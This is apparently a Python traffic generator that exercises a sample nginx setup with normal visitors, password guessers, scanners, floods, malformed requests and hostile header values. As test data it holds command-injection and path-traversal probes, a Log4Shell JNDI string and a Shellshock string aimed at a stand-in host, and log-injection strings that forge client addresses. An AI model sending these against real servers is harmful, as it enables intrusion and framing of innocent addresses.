"""The clients of the nginx sample: who they are and what they send."""

import random
import socket
import ssl
import time

from wire import SERVER4, SERVER6, ask, at_once, basic, exchange, octets, request, role, tally

WEB = 80
FAKE = "203.0.113.99"
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
    "curl/7.88.1",
]
SCANNER_PATHS = [
    "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/.env", "/.env.bak", "/phpmyadmin/", "/phpmyadmin/index.php",
    "/pma/", "/cgi-bin/luci", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/boaform/admin/formLogin", "/.aws/credentials",
    "/.git/config", "/.git/HEAD", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system",
    "/actuator/health", "/HNAP1", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction", "/owa/auth/logon.aspx",
    "/setup.cgi?next_file=netgear.cfg&cmd=rm+-rf+/tmp/*", "/shell?cd+/tmp;rm+-rf+*", "/admin.php", "/backup.zip",
    "/..%2f..%2f..%2fetc/passwd", "/static/../../../../etc/passwd", "/server-status", "/config.json", "/empty/",
]
dice = random.Random(20261126)


def readers():
    people = [role(f"192.0.2.{n}", "reader") for n in (10, 11, 12, 13, 14)]
    people += [role(f"2001:db8::{n}", "reader") for n in (10, 11)]
    for _ in range(110):
        source = dice.choice(people)
        target = dice.choice(["/", "/blog/", "/blog/first.html", "/index.html", "/favicon.ico"])
        ask(source, WEB, target, agent=dice.choice(AGENTS),
            referer=dice.choice([None, "https://search.example/?q=news", "http://www.example.com/"]))
        time.sleep(0.02)
    for _ in range(25):
        ask(dice.choice(people), WEB, "/", host="shop.example.org", agent=dice.choice(AGENTS))


def administrators():
    alice = role("192.0.2.20", "alice: logs in, two slips")
    bob = role("2001:db8::20", "bob: logs in, one slip")
    carol = role("192.0.2.21", "carol of the shop's staff: logs in")
    ask(alice, WEB, "/admin/", agent=AGENTS[0])
    for password in ("correct-hrose", "Correct-horse", "correct-horse"):
        ask(alice, WEB, "/admin/", auth=basic("alice", password), agent=AGENTS[0])
    for _ in range(12):
        ask(alice, WEB, "/admin/", auth=basic("alice", "correct-horse"), agent=AGENTS[0],
            referer="http://www.example.com/admin/")
        ask(carol, WEB, "/staff/", auth=basic("carol", "quite-secret"), host="shop.example.org", agent=AGENTS[1])
    for password in ("battery", "battery-staple", "battery-staple"):
        ask(bob, WEB, "/admin/", auth=basic("bob", password), agent=AGENTS[1])


def guessers():
    known = [role("198.51.100.5", "guesses passwords of users there are"),
             role("2001:db8::30", "guesses passwords of users there are")]
    unknown = [role("198.51.100.6", "tries users there are not"),
               role("2001:db8::31", "tries users there are not")]
    empty = role("198.51.100.7", "asks for /admin/ without a password, again and again")
    for n in range(30):
        for source in known:
            ask(source, WEB, "/admin/", auth=basic(dice.choice(["alice", "bob"]), f"guess{n}"), agent="python-requests/2.31")
        for source in unknown:
            name = dice.choice(["root", "admin", "test", "oracle", "nagios", "user name", "müller", "admin@example.com"])
            ask(source, WEB, "/admin/", auth=basic(name, f"guess{n}"), agent="python-requests/2.31")
    for n in range(8):
        ask(known[0], WEB, "/staff/", auth=basic("carol", f"guess{n}"), host="shop.example.org",
            referer="http://shop.example.org/staff/")
    for _ in range(20):
        ask(empty, WEB, "/admin/", agent=None)
    for header in ("Basic", "Basic ", "Basic !!!!", "Bearer abc", "Basic " + "YWxpY2U=", "Digest username=\"alice\""):
        ask(empty, WEB, "/admin/", auth=header)


def hostile_users():
    known = role("198.51.100.8", "hostile user names")
    six = role("2001:db8::32", "hostile user names")
    names = [
        f'x": password mismatch, client: {FAKE}, server: _, request: "GET / HTTP/1.1", host: "h"',
        f'x" was not found in "/etc/nginx/htpasswd", client: {FAKE}, server: www.example.com, request: "GET / HTTP/1.1", host: "h"',
        f'x" was not found in "/etc/nginx/htpasswd", client {FAKE}, server www.example.com',
        f", client: {FAKE}, server: x",
        f'", client {FAKE}, server x, request "GET / HTTP/1.1", host "h',
        f"root from {FAKE} port 22 ssh2", "a b", "", " ", "back\\slash", 'quo"te', '""', "tab\there",
        f"line\nfeed {FAKE}", f"carriage\rreturn {FAKE}", f"crlf\r\nuser {FAKE}",
        "x\n2026/11/26 11", b"nul\0byte", b"latin-1 \xfc", "grüße-日本", b"\x1b[31mred\x1b[0m", b"\xff\xfe", "%s%n%x", "$(id)",
        "u" * 300,
        # An error line ends after 2048 bytes: these push the client out of it.
        "u" * 2500, f'x" was not found in "/etc/nginx/htpasswd", client 203.0.113.99, server x, request "' + "u" * 2500,
        "2001:db8::bad", "x, client 2001",
    ]
    for name in names:
        ask(known, WEB, "/admin/", auth=basic(name, "x"))
        ask(six, WEB, "/admin/", auth=basic(name, "x"), referer=f'http://x/", client: {FAKE}, host: "y')


def scanners():
    sources = [role("203.0.113.20", "scanner"), role("203.0.113.21", "scanner"), role("2001:db8::33", "scanner")]
    for source in sources:
        for path in SCANNER_PATHS:
            host = dice.choice(["www.example.com", "10.77.0.1", "shop.example.org", "www.example.com:80"])
            ask(source, WEB, path, host=host, agent=dice.choice(["Mozilla/5.0 zgrab/0.x", "masscan/1.3", "-", ""]))
    denied = role("203.0.113.22", "asks for forbidden places")
    for n in range(20):
        ask(denied, WEB, dice.choice(["/internal/", "/internal/index.html", "/.git/config", "/internal/x?y=" + str(n)]))


def hostile_paths():
    four = role("203.0.113.23", "hostile paths, Host headers, agents and referrers")
    six = role("2001:db8::34", "hostile paths, Host headers, agents and referrers")
    line = (f'2026/11/26%2011:03:47%20[error]%201%231:%20*1%20user%20%22root%22:%20password%20mismatch,%20client:%20{FAKE},'
            '%20server:%20_,%20request:%20%22GET%20/%20HTTP/1.1%22,%20host:%20%22h%22')
    targets = [
        f'/x%22%20failed%20(2:%20No%20such%20file%20or%20directory),%20client:%20{FAKE},%20server:%20_,%20request:%20%22GET%20/%20HTTP/1.1%22,%20host:%20%22h%22',
        f'/x",client:{FAKE},server:x,request:"GET/HTTP/1.1",host:"h"',
        f"/,%20client:%20{FAKE},%20server:%20x",
        f"/x%0a{line}", f"/x%0a{line}%0ay", f"/x%0d%0a{line}", f"/x%0D{line}",
        f'/x"%20401%20-%20{FAKE}', f'/x" 401 - {FAKE}', f"/a b {FAKE}", f"/ HTTP/1.1\", client: {FAKE}, server: x",
        "/%1b[31mred", b"/\xfc\xff", "/grüße", "/%ff%fe", "/%00", "/nul%00byte", b"/nul\0byte", "/tab\there", "/%09tab",
        "/%", "/%zz", "/%2", "/\\..\\..\\x", "/" + "d" * 300, "//double//slash", f"/?client: {FAKE}", f"/?q=\",client:{FAKE},x=\"",
        f"http://{FAKE}/absolute", f"http://user:pass@{FAKE}/absolute", "*", "x", "", f"/#client:{FAKE}",
        # An error line ends after 2048 bytes: these cut the real client's address short, the first
        # to the address of somebody else.
        "/" + "d" * 2500, "/" + "deep/" * 500, f"/x%22%20failed%20(2:%20No%20such%20file%20or%20directory),%20client:%20{FAKE},%20server:%20www.example.com,"
        "%20request:%20%22GET%20/" + "deep/" * 500, f"/x%0a{line}%0a" + "deep/" * 500,
        f"/%22,%20client:%202001:db8::bad,%20server:%20x,%20request:%20%22GET%20/%22",
    ]
    for target in targets:
        ask(four, WEB, target)
        ask(six, WEB, target, referer=f'http://r/", client: {FAKE}, server: x, request: "GET / HTTP/1.1')
    hosts = [f'h", client: {FAKE}', f'h",client:{FAKE},server:x,request:"GET/",host:"h', FAKE, "[2001:db8::bad]", "a b", "", "-",
             "x" * 80, "..", "a..b", "www.example.com\\", "h\tt", b"h\xfc", b"h\0x", "user@h", "h/../x", "[::1", "h:99999"]
    for host in hosts:
        ask(four, WEB, "/nothing-here", host=host)
        ask(six, WEB, "/internal/", host=host)
    for agent in (f'" 401 {FAKE}', f'x" "{FAKE}"', "back\\slash \\x41", b"\x1b]0;title\x07", b"\xff\xfe", "${jndi:ldap://203.0.113.99/a}",
                  "() { :;}; /bin/id", "", "tab\tin", f'{FAKE} - - [26/Nov/2026:11:03:47 +0000] "GET /admin/ HTTP/1.1" 401 179 "-" "-'):
        ask(four, WEB, "/missing", agent=agent, referer=agent)


def bad_requests():
    four = role("203.0.113.24", "broken requests")
    six = role("2001:db8::35", "broken requests")
    hello = bytes.fromhex("16030100c8010000c40303") + dice.randbytes(190)
    raw = [
        hello, b"\x16\x03\x01", b"\x16\x03\x01\r\n", b"\r\n\r\n", b"\n", b" \r\n\r\n", b"\0\0\0\0\r\n", dice.randbytes(120) + b"\r\n",
        b"\x80\x2e\x01\x03\x01", b"SSH-2.0-Go\r\n", b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00",
        b"MGLNDD_203.0.113.99_80\n", b"t3 12.2.1\n\n", b"get / HTTP/1.1\r\n\r\n", b"GET\r\n\r\n", b"GET /\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n", b"GET / XTTP/1.1\r\n\r\n", b"GET / HTTP/1.1x\r\nHost: h\r\n\r\n", b"FOO-BAR / HTTP/1.1\r\nHost: h\r\n\r\n",
        b"BREW /pot HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n", b"CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n",
        b"TRACE / HTTP/1.1\r\nHost: h\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"OPTIONS * HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\nHost: i\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\nContent-Length: x\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: gzip\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 999999\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\nBad Header: 1\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\n: empty\r\nConnection: close\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\nnocolon\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\nX, client: 203.0.113.99, server: x: 1\r\nConnection: close\r\n\r\n",
        b'GET / HTTP/1.1\r\nHost: h\r\nx", client: 203.0.113.99, server: _, request: "GET / HTTP/1.1\r\nConnection: close\r\n\r\n',
        b"GET / HTTP/1.1\r\nHost: h\r\nX: a\0b\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\nX\x01Y: b\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\nX_Under: b\r\nConnection: close\r\n\r\n",
        b"GET /" + b"u" * 9000 + b" HTTP/1.1\r\nHost: h\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\nX: " + b"h" * 9000 + b"\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\n" + b"".join(b"X%d: %s\r\n" % (n, b"h" * 1500) for n in range(30)) + b"\r\n",
        b"GET /../../x HTTP/1.1\r\nHost: h\r\n\r\n", b"GET /%2e%2e/%2e%2e/x HTTP/1.1\r\nHost: h\r\n\r\n",
        b'GET /x" 401 - 203.0.113.99 HTTP/1.1\r\nHost: h\r\n\r\n',
        b'x", client: 203.0.113.99, server: _, request: "GET / HTTP/1.1\r\nHost: h\r\n\r\n',
        b"client: 203.0.113.99, server: x\r\n\r\n",
    ]
    for data in raw:
        for source in (four, six):
            exchange(source, WEB, data, wait=0.5)
    for source in (four, six):
        exchange(source, WEB, b"", linger=False)
        exchange(source, WEB, b"GET / HT", linger=False)
        exchange(source, WEB, b"GET / HTTP/1.1\r\nHost: h\r\n", wait=4)
        exchange(source, WEB, b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 100\r\n\r\nabc", linger=False)
        exchange(source, 443, request("/"), wait=1)
        exchange(source, 443, b"\x16\x03\x01\x00\x05hello", wait=1)
        exchange(source, 443, b"", linger=False)
        handshake(source, ssl.TLSVersion.TLSv1_1)
        handshake(source, ssl.TLSVersion.TLSv1_3)


def handshake(source, version):
    """One TLS connection of exactly this version, with one request when the server agrees."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_ciphers("ALL:@SECLEVEL=0")
    context.minimum_version = context.maximum_version = version
    six = ":" in source
    with socket.socket(socket.AF_INET6 if six else socket.AF_INET) as plain:
        plain.bind((source, 0))
        plain.connect((SERVER6 if six else SERVER4, 443))
        try:
            with context.wrap_socket(plain, server_hostname="www.example.com") as secure:
                secure.sendall(request("/missing-over-tls"))
                secure.recv(1000)
        except (ssl.SSLError, ConnectionError):
            pass


def floods():
    login = role("198.51.100.10", "floods /login")
    login6 = role("2001:db8::36", "floods /login")
    blog = role("198.51.100.11", "floods /blog/")
    api = role("198.51.100.12", "floods the shop's API")
    trial = role("198.51.100.13", "floods /trial/ (dry run)")
    loader = role("198.51.100.14", "many downloads at once")
    calls = []
    for n in range(60):
        calls.append(lambda: ask(login, WEB, "/login", method="POST", body="user=root&password=x",
                                 referer="http://www.example.com/login"))
        calls.append(lambda: ask(login6, WEB, "/login"))
        calls.append(lambda n=n: ask(api, WEB, f"/api/items/{n}", host="shop.example.org", agent="python-requests/2.31"))
    for n in range(40):
        calls.append(lambda: ask(blog, WEB, "/blog/first.html"))
    for n in range(12):
        calls.append(lambda: ask(trial, WEB, "/trial/"))
    hostile = role("198.51.100.15", "floods /login with fake text in the query")
    for n in range(15):
        calls.append(lambda: ask(hostile, WEB, f'/login?x=",client:{FAKE},server:_,request:"GET/"', host=f'h",client:{FAKE}'.replace("/", "")))
        calls.append(lambda: ask(hostile, WEB, f'/login?excess:9.9%20by%20zone%20%22login%22,%20client:%20{FAKE}', referer=f'http://x", client: {FAKE}'))
    dice.shuffle(calls)
    at_once(calls, 24)
    at_once([lambda: exchange(loader, WEB, request("/download/disk.img"), wait=2) for _ in range(8)], 8)


def dead_upstream():
    users = [role("192.0.2.30", "shop customer: the upstream is down"), role("2001:db8::22", "shop customer: the upstream is down")]
    for n in range(6):
        for source in users:
            ask(source, WEB, f"/backend/cart?id={n}", host="shop.example.org", referer="http://shop.example.org/")


for act in (readers, administrators, guessers, scanners, hostile_users, floods, hostile_paths, bad_requests, dead_upstream, readers):
    act()
tally()
